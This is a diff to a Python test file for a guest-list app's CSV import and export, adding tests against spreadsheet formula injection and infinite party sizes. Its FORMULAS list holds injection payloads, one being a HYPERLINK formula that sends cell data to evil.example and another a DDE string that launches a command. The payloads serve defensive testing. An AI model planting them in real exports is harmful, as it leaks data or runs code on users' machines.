@@ -215,8 +215,9 @@ def test_export_is_a_csv_excel_opens_with_hebrew_intact(client, runtime):
     assert disposition.startswith("attachment;") and "filename*=UTF-8''Noa%20%26%20Eli" in disposition
     assert r.data.startswith(b"\xef\xbb\xbf")
     rows = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"))))
+    # Phones start with "+": written after a ' so Excel keeps them as text, and does not show the '.
     assert [(row["first_name"], row["last_name"], row["phone"], row["side"], row["status"]) for row in rows] == [
-        ("Dana", "Levi", "+972502345678", "bride", "invited"), ("אבי", "כהן", "+972521234567", "חתן", "invited")]
+        ("Dana", "Levi", "'+972502345678", "bride", "invited"), ("אבי", "כהן", "'+972521234567", "חתן", "invited")]
     only_groom = client.get(_url(world, ".csv?side=חתן"), headers=world.headers("viewer"))
     assert len(list(csv.DictReader(io.StringIO(only_groom.data.decode("utf-8-sig"))))) == 1
 
@@ -231,3 +232,32 @@ def test_nul_characters_are_refused_before_they_reach_the_database(client, runti
     r = client.post(_url(world, "/import"), data=big, content_type="text/csv", headers=h)
     assert r.status_code == 422 and r.get_json()["error"]["code"] == "not_a_csv"
     assert client.get(_url(world), headers=h).get_json()["total"] == 1
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_export_never_hands_excel_a_formula(client, runtime):
+    world = seed(runtime)
+    h = world.headers("admin")
+    for i, formula in enumerate(FORMULAS):
+        r = client.post(_url(world), json={"first_name": formula, "notes": formula, "side": "=1+1",
+                                           "phone": f"+97252123400{i}"}, headers=h)
+        assert r.status_code == 201, r.get_data(as_text=True)
+    r = client.get(_url(world, ".csv"), headers=h)
+    rows = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))
+    exported = {row["notes"] for row in rows if row["notes"]}
+    assert exported == {"'" + f.strip() for f in FORMULAS}  # the API trims the tab and the CR itself
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_a_party_size_of_infinity_in_a_csv_is_a_line_refused_not_a_crash(client, runtime):
+    world = seed(runtime)
+    body = "name,phone,party\nAvi,+972521234567,inf\nBea,+972521234568,1e999\nCy,+972521234569,2\n".encode()
+    r = client.post(_url(world, "/import"), data=body, content_type="text/csv", headers=world.headers("admin"))
+    assert r.status_code < 500, r.get_data(as_text=True)
+    assert client.get(_url(world, "?search=Cy"), headers=world.headers("admin")).get_json()["total"] == 1
+    assert client.get(_url(world, "?search=Avi"), headers=world.headers("admin")).get_json()["total"] == 0
